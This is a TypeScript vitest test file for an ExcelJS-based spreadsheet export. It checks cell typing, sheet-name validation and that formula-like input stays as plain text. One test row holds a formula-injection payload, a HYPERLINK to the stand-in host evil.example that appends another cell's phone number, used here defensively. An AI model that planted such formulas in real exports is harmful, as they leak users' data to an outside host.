import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { toXlsx } from "./xlsx.server";

async function read(buffer: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(buffer).buffer);
  return workbook.worksheets[0];
}

describe("toXlsx", () => {
  it("types cells by column: text stays text, numbers are numbers, local dates and times are date cells", async () => {
    const sheet = await read(
      await toXlsx("Prueba", [
        {
          name: "Lista",
          columns: [
            { label: "Nombre", kind: "text" },
            { label: "Celular", kind: "text" },
            { label: "Año", kind: "number" },
            { label: "Inscripción", kind: "datetime" },
            { label: "Día", kind: "date" },
          ],
          rows: [
            ['=HYPERLINK("http://evil.example/?d="&B2,"Ver")', "+51987654321", 1958, "2026-03-12 10:30", "2026-03-12"],
          ],
        },
      ]),
    );
    expect(sheet.name).toBe("Lista");
    expect(sheet.getRow(1).values).toEqual([undefined, "Nombre", "Celular", "Año", "Inscripción", "Día"]);
    const row = sheet.getRow(2);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(1).value).toBe('=HYPERLINK("http://evil.example/?d="&B2,"Ver")');
    expect(row.getCell(2).value).toBe("+51987654321");
    expect(row.getCell(3).value).toBe(1958);
    // Wall-clock fields as they read: spreadsheet dates have no time zone.
    expect(row.getCell(4).value).toEqual(new Date("2026-03-12T10:30:00Z"));
    expect(row.getCell(4).numFmt).toBe("yyyy-mm-dd hh:mm");
    expect(row.getCell(5).value).toEqual(new Date("2026-03-12T00:00:00Z"));
    expect(row.getCell(5).numFmt).toBe("yyyy-mm-dd");
  });

  it("keeps a carriage return and a literal _x000D_ as they were", async () => {
    const sheet = await read(
      await toXlsx("Prueba", [
        { name: "Lista", columns: [{ label: "Nombre", kind: "text" }], rows: [["\r=1+1"], ["a_x000D_b"]] },
      ]),
    );
    expect(sheet.getRow(2).getCell(1).value).toBe("\r=1+1");
    expect(sheet.getRow(3).getCell(1).value).toBe("a_x000D_b");
  });

  it("refuses a sheet name Excel would cut or refuse instead of cutting it mid-word", async () => {
    const columns = [{ label: "Nombre", kind: "text" as const }];
    await expect(
      toXlsx("Prueba", [{ name: "Por edad (pares de los financiadores)", columns, rows: [] }]),
    ).rejects.toThrow(/tooLong/);
    await expect(toXlsx("Prueba", [{ name: "Hoja: 1", columns, rows: [] }])).rejects.toThrow(/forbidden/);
    await expect(
      toXlsx("Prueba", [
        { name: "Lista", columns, rows: [] },
        { name: "lista", columns, rows: [] },
      ]),
    ).rejects.toThrow(/twice/);
  });
});
